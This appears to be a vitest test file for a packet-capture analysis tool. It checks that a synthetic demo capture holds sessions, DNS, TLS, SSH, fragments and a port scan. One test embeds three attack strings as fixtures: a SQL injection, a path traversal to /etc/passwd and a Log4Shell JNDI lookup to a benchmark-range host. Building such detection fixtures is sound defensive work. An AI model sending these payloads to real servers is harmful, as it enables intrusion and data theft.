// The shipped demo capture holds what the project promises it holds.
import { mkdtempSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { openCapture } from '../../../host/capture/reader.js';
import { makeDemoCapture, writeSamples } from '../../../host/capture/samples.js';
import { decodePacket } from '../../../host/packet/decode.js';
import { TcpFlag, type DecodedPacket } from '../../../host/packet/types.js';

const frames = makeDemoCapture();
const pkts = frames.map((f) => decodePacket(f.data, f.linkType, f.tsSec, f.tsNsec, f.wireLen));
const payloadText = (p: DecodedPacket): string =>
  p.payloadOffset < 0 ? '' : Buffer.from(p.data.subarray(p.payloadOffset, p.payloadOffset + p.payloadLength)).toString('latin1');
const withPayload = (needle: string): DecodedPacket[] => pkts.filter((p) => payloadText(p).includes(needle));

describe('demo capture', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sf-demo-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('is deterministic and starts at 2026-01-01T00:00:00Z with ordered timestamps', () => {
    const again = makeDemoCapture();
    expect(again.length).toBe(frames.length);
    again.forEach((f, i) => expect(Buffer.compare(Buffer.from(f.data), Buffer.from(frames[i]!.data))).toBe(0));
    expect(frames[0]!.tsSec).toBe(Date.UTC(2026, 0, 1) / 1000);
    for (let i = 1; i < frames.length; i++) {
      const a = frames[i - 1]!, b = frames[i]!;
      expect(b.tsSec * 1e9 + b.tsNsec).toBeGreaterThan(a.tsSec * 1e9 + a.tsNsec);
    }
  });

  it('uses only the benchmark and documentation ranges', () => {
    for (const p of pkts) {
      for (const a of [p.src, p.dst]) {
        if (a.length === 4) expect(a[0] === 198 && (a[1] === 18 || a[1] === 19)).toBe(true);
        if (a.length === 16) expect([...a.subarray(0, 4)]).toEqual([0x20, 0x01, 0x0d, 0xb8]);
      }
    }
  });

  it('has the attacks in HTTP requests', () => {
    expect(withPayload("GET /search?q=1' OR '1'='1' -- HTTP/1.1").length).toBe(1);
    expect(withPayload('/../../etc/passwd').length).toBe(1);
    expect(withPayload('${jndi:ldap://198.18.9.9/a}').length).toBe(1);
    expect(withPayload('HTTP/1.1 200 OK').length).toBeGreaterThanOrEqual(1);
  });

  it('has full TCP handshakes and FIN teardowns', () => {
    const syns = pkts.filter((p) => p.tcpFlags === TcpFlag.SYN);
    const synAcks = pkts.filter((p) => p.tcpFlags === (TcpFlag.SYN | TcpFlag.ACK));
    const fins = pkts.filter((p) => (p.tcpFlags & TcpFlag.FIN) !== 0);
    // 10 sessions (benign HTTP, 3 attacks, split request, TLS, SSH, IPv6, VLAN, QinQ) plus 20 scan probes.
    expect(syns.length).toBe(10 + 20);
    expect(synAcks.length).toBe(10);
    expect(fins.length).toBe(20);
  });

  it('has a request split in two segments that arrive out of order, plus a retransmission', () => {
    const flow = pkts.filter((p) => p.srcPort === 41004 && p.payloadLength > 0);
    expect(flow.length).toBe(3);
    expect(flow[0]!.tcpSeq).toBeGreaterThan(flow[1]!.tcpSeq);
    expect(flow[1]!.tcpSeq).toBe(flow[2]!.tcpSeq);
    expect(payloadText(flow[1]!) + payloadText(flow[0]!)).toMatch(/^GET \/account\?id=42 HTTP\/1\.1\r\n[\s\S]*\r\n\r\n$/);
  });

  it('has DNS A and AAAA queries with answers', () => {
    const dns = pkts.filter((p) => p.proto === 17 && (p.dstPort === 53 || p.srcPort === 53));
    const queries = dns.filter((p) => p.dstPort === 53);
    const answers = dns.filter((p) => p.srcPort === 53);
    expect(queries.length).toBeGreaterThanOrEqual(4);
    expect(answers.length).toBe(queries.length);
    const qtype = (p: DecodedPacket): number => {
      const q = p.data.subarray(p.payloadOffset + 12);
      let i = 0;
      while (q[i] !== 0) i += q[i]! + 1;
      return (q[i + 1]! << 8) | q[i + 2]!;
    };
    expect(new Set(queries.map(qtype))).toEqual(new Set([1, 28]));
    // Each answer carries one resource record (ANCOUNT = 1) and the QR bit.
    for (const a of answers) {
      const d = a.data.subarray(a.payloadOffset);
      expect(d[2]! & 0x80).toBe(0x80);
      expect((d[6]! << 8) | d[7]!).toBe(1);
    }
  });

  it('has a TLS ClientHello carrying the SNI in a server_name extension', () => {
    const [hello] = pkts.filter((p) => p.dstPort === 443 && p.payloadLength > 0);
    const d = hello!.data.subarray(hello!.payloadOffset, hello!.payloadOffset + hello!.payloadLength);
    expect(d[0]).toBe(0x16); // handshake record
    expect(d[5]).toBe(1); // ClientHello
    expect((d[3]! << 8 | d[4]!) + 5).toBe(d.length);
    const sni = Buffer.from('secure.example.com');
    const at = Buffer.from(d).indexOf(sni);
    expect(at).toBeGreaterThan(0);
    // server_name list entry: type 0 and 16-bit length right before the name.
    expect([d[at - 3], (d[at - 2]! << 8) | d[at - 1]!]).toEqual([0, sni.length]);
  });

  it('has an SSH banner exchange, ICMP and ICMPv6 echoes, IPv6 TCP, 802.1Q and QinQ flows', () => {
    expect(withPayload('SSH-2.0-').length).toBe(2);
    const icmp = pkts.filter((p) => p.proto === 1).map((p) => p.icmpType);
    expect(icmp).toEqual([8, 0]);
    const icmp6 = pkts.filter((p) => p.proto === 58).map((p) => p.icmpType);
    expect(icmp6).toEqual([128, 129]);
    expect(pkts.some((p) => p.ipVersion === 6 && p.tcpFlags === TcpFlag.SYN)).toBe(true);
    expect(pkts.filter((p) => p.vlans.length === 1 && p.proto === 6).length).toBeGreaterThanOrEqual(7);
    expect(pkts.filter((p) => p.vlans.length === 2 && p.proto === 6).length).toBeGreaterThanOrEqual(7);
  });

  it('has an IPv4 datagram in 3 fragments and a fragmented IPv6 datagram', () => {
    const v4 = pkts.filter((p) => p.ipVersion === 4 && p.fragment);
    expect(v4.length).toBe(3);
    expect(new Set(v4.map((p) => p.fragment!.id)).size).toBe(1);
    expect(v4.map((p) => p.fragment!.moreFragments)).toEqual([true, true, false]);
    const v6 = pkts.filter((p) => p.ipVersion === 6 && p.fragment);
    expect(v6.length).toBeGreaterThanOrEqual(2);
    expect(v6[v6.length - 1]!.fragment!.moreFragments).toBe(false);
  });

  it('has a SYN scan of 20 ports from one source answered by RSTs', () => {
    const probes = pkts.filter((p) => p.tcpFlags === TcpFlag.SYN && p.tcpWindow === 1024);
    expect(new Set(probes.map((p) => Buffer.from(p.src).toString('hex'))).size).toBe(1);
    expect(new Set(probes.map((p) => p.dstPort)).size).toBe(20);
    const rsts = pkts.filter((p) => (p.tcpFlags & TcpFlag.RST) !== 0);
    expect(rsts.length).toBe(20);
  });

  it('has exactly one malformed frame', () => {
    expect(pkts.filter((p) => p.malformed !== null).length).toBe(1);
  });

  it('writes small demo.pcap and demo.pcapng that read back identically', () => {
    const out = writeSamples(dir);
    for (const path of [out.pcap, out.pcapng]) {
      expect(statSync(path).size).toBeLessThan(200 * 1024);
      const back = [...openCapture(path).frames()];
      expect(back.length).toBe(frames.length);
      back.forEach((f, i) => {
        expect(Buffer.compare(Buffer.from(f.data), Buffer.from(frames[i]!.data))).toBe(0);
        expect([f.tsSec, f.tsNsec]).toEqual([frames[i]!.tsSec, frames[i]!.tsNsec]);
      });
    }
  });
});
